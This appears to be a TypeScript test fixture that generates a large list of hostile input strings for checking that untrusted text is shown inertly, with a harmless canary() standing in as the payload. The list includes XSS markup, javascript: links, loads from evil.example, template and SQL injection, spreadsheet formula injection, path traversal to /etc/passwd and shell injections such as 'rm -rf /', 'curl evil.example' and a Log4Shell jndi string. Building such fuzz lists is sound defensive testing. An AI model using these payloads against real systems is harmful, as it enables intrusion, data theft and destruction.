// Text that would like to be something else: markup, code, directions, formulas, statements, paths. All
// of our own making, by class; strangers write what is shown, so each must be seen as text and as
// nothing else. Whatever runs calls `canary`, which the tests watch.

const call = "canary()";

/** Markup that runs something as soon as it is in a page. */
function markup(): string[] {
  const events = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "onwheel",
    "oncopy",
    "onscrollend",
  ];
  const elements = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
    "marquee",
    "object data=x",
    "select autofocus",
  ];
  const each = elements.flatMap((element) =>
    events.map((event) => `<${element} ${event}=${call}>`),
  );
  const frames = [
    ["<script>", "</script>"],
    ["</title><script>", "</script>"],
    ["</textarea><script>", "</script>"],
    ["--><script>", "</script>"],
    ["]]><script>", "</script>"],
    ['"><script>', "</script>"],
    ["'><script>", "</script>"],
    ["<scr<script>ipt>", "</scr</script>ipt>"],
    ["<SCRIPT\t>", "</SCRIPT >"],
    ["<svg><script>", "</script></svg>"],
    ["<math><mtext><script>", "</script>"],
    ["<noscript><p title='</noscript><script>", "</script>'>"],
    ["<template><script>", "</script></template>"],
    ["&lt;script&gt;", "&lt;/script&gt;"],
    ["&#60;script&#62;", "&#60;/script&#62;"],
    ["\\u003cscript\\u003e", "\\u003c/script\\u003e"],
    ["%3Cscript%3E", "%3C/script%3E"],
    ["＜script＞", "＜/script＞"],
  ].map(([open, close]) => `${open ?? ""}${call}${close ?? ""}`);
  const links = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\u0001javascript:",
    "data:text/html,<script>",
    "vbscript:",
    "blob:",
    "tuco-hubspot://send?text=",
    "tauri://localhost/",
    "file:///etc/passwd#",
  ].flatMap((scheme) => [
    `<a href="${scheme}${call}">press</a>`,
    `${scheme}${call}`,
    `[press](${scheme}${call})`,
  ]);
  const asks = [
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>press</button></form>",
    "<audio src=//evil.example autoplay>",
    "<embed src=//evil.example>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<div style=background:url(//evil.example)>",
    "![x](https://evil.example/x.png)",
    "<!--[if IE]><script>canary()</script><![endif]-->",
    "<?xml-stylesheet href='//evil.example'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
  ];
  return [...each, ...frames, ...links, ...asks];
}

/** What a template would take as its own. */
function templates(): string[] {
  const inside = ["7*7", "canary()", "constructor.constructor('canary()')()"];
  const braces: [string, string][] = [
    ["{{", "}}"],
    ["{", "}"],
    ["${", "}"],
    ["#{", "}"],
    ["<%=", "%>"],
    ["{%", "%}"],
    ["{@html ", "}"],
    ["{#if ", "}{/if}"],
    ["[[", "]]"],
    ["@{", "}"],
    ["*{", "}"],
    ["$(", ")"],
    ["`", "`"],
    ["%s%n", "%x"],
    ["{0}", "{1}"],
  ];
  return braces.flatMap(([open, close]) =>
    inside.map((code) => `${open}${code}${close}`),
  );
}

/** What turns, hides, piles up or runs out of its line. */
function letters(): string[] {
  const turning = [..."\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
    .concat("\u200e", "\u200f", "\u061c")
    .flatMap((mark) => [`${mark}gnp.txet`, `on${mark}off`, `end${mark}`]);
  const hidden = [
    ..."\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164",
  ].flatMap((mark) => [`pass${mark}word`, mark.repeat(40), `${mark} `]);
  const odd = [
    "\u0000",
    "\u0007",
    "\u0008",
    "\u001b[31mred\u001b[0m",
    "\u0085",
    "\u2028",
    "\u2029",
    "\ufffd",
    "\ufffe",
    "\ud800",
    "\udfff",
    "\u{10ffff}",
    "\u{e0041}\u{e0042}",
    "line\nline\r\nline\rline",
    "tab\ttab",
    "\u00a0\u2003\u3000",
    "a\u0338\u0489",
  ];
  const piled = [3, 10, 30, 100].map((high) =>
    [..."zalgo"]
      .map((letter) => letter + "\u0300\u0316\u0336\u035c".repeat(high))
      .join(""),
  );
  const long = [
    "w".repeat(400),
    "w".repeat(4000),
    "-".repeat(600),
    "\u0e01".repeat(500),
    "\u6f22".repeat(500),
    "\u0645".repeat(500),
    "i\u0307".repeat(300),
    "\u{1f1e6}".repeat(200),
    "https://example.com/" + "a/".repeat(300),
    "word ".repeat(800),
    "\ufdfd".repeat(40),
    "\u12031".repeat(30),
    "\u{12031}".repeat(30),
  ];
  const emoji = [
    "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(20),
    "\u{1f3f3}\ufe0f\u200d\u{1f308}",
    "\u{1f44d}\u{1f3fd}".repeat(50),
    "1\ufe0f\u20e3#\ufe0f\u20e3",
    "\u{1f1fa}\u{1f1f8}\u{1f1e9}\u{1f1ea}",
    "\u263a\ufe0e\u263a\ufe0f",
    "\u200d".repeat(30) + "\u{1f469}",
    "\u{1fae0}\u{1f9d1}\u{1f3ff}\u200d\u{1f680}",
  ];
  const scripts = [
    "مرحبا (hello) ١٢٣ שלום",
    "שלום world 123 مرحبا",
    "إيمان <b>حسن</b> +20 10",
    "ﷺ ﷽",
    "नमस्ते क्ष्म्य",
    "สวัสดีครับผมชื่อ",
    "ᠮᠣᠩᠭᠣᠯ",
    "ཨོཾ་མ་ཎི་པདྨེ་ཧཱུྃ",
    "Ｆｕｌｌ　ｗｉｄｔｈ",
    "ℌ𝔢𝔩𝔩𝔬 𝕨𝕠𝕣𝕝𝕕",
    "раураl.com",
    "İstanbul ıI ß ẞ ŉ ǆ",
    "Ω≈ç√∫˜µ≤≥÷",
    "\u0e33\u0e33\u0e33\u0e48\u0e48\u0e48",
  ];
  return [
    ...turning,
    ...hidden,
    ...odd,
    ...piled,
    ...long,
    ...emoji,
    ...scripts,
  ];
}

/** What something behind the page would take as an order. */
function orders(): string[] {
  const formulas = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
  ]
    .flatMap((sign) => [
      `${sign}cmd|'/c calc'!A0`,
      `${sign}HYPERLINK("//evil.example","press")`,
      `${sign}IMPORTXML("//evil.example","//a")`,
      `${sign}1+1`,
    ])
    .concat('"=1+1"', "'=1+1", '";=1+1', "DDE(x;y;z)", "a,b\r\n=c");
  const statements = ["'", '"', ")", "';", "\\'", "`"].flatMap((quote) => [
    `${quote} OR 1=1--`,
    `${quote} UNION SELECT key FROM secret--`,
    `${quote}; DROP TABLE event;--`,
    `${quote} AND randomblob(1000000000)--`,
  ]);
  const search = [
    '"unbalanced',
    "NEAR(a b, 5)",
    "text:x",
    "a AND",
    "OR",
    "NOT x",
    "^a",
    "a*",
    "*",
    "-a",
    "(((",
    "col:*:*",
    "%_%",
  ];
  const paths = [
    "../",
    "..\\",
    "%2e%2e/",
    "....//",
    "/",
    "\\\\?\\",
    "~/",
  ].flatMap((up) => [`${up.repeat(3)}etc/passwd`, `${up}C:\\Windows\\win.ini`]);
  const shells = [
    "; rm -rf /",
    "| cat /etc/passwd",
    "&& curl evil.example",
    "$(curl evil.example)",
    "`id`",
    "\n/bin/sh",
    "|| true",
    "${IFS}id",
    "%0aid",
    "() { :;}; echo x",
    "${jndi:ldap://evil.example/a}",
    "AUX",
    "CON.txt",
    "NUL",
  ];
  return [...formulas, ...statements, ...search, ...paths, ...shells];
}

/** What a program would take for no text, or for another kind of value. */
function values(): string[] {
  return [
    "",
    " ",
    "null",
    "NULL",
    "undefined",
    "None",
    "nil",
    "NaN",
    "Infinity",
    "-0",
    "0",
    "00",
    "true",
    "false",
    "[]",
    "{}",
    "[object Object]",
    '{"__proto__":{"x":1}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "length",
    "9007199254740993",
    "1e400",
    "0x7fffffff",
    "1/0",
    "2026-02-30",
    "+00 000",
    "\\",
    "\\\\",
    "\\n",
    "%",
    "%%",
    "&amp;",
    "&nbsp;",
    "&#x0;",
    "<",
    ">",
    "<>",
    "</",
    "<a",
    "<!--",
    "-->",
    "]]>",
    "'",
    '"',
    "''''",
  ];
}

/** All of them. */
export const hostile: string[] = [
  ...markup(),
  ...templates(),
  ...letters(),
  ...orders(),
  ...values(),
];

/** The same as what is written in a log: every string in every field, each time beside other ones. */
export const hostileWords = {
  people: hostile.map((name, at) => ({
    name: at % 5 === 4 ? null : name,
    address: hostile[(at + 7) % hostile.length] ?? "",
  })),
  texts: hostile,
  said: hostile.filter((text) => text !== ""),
};
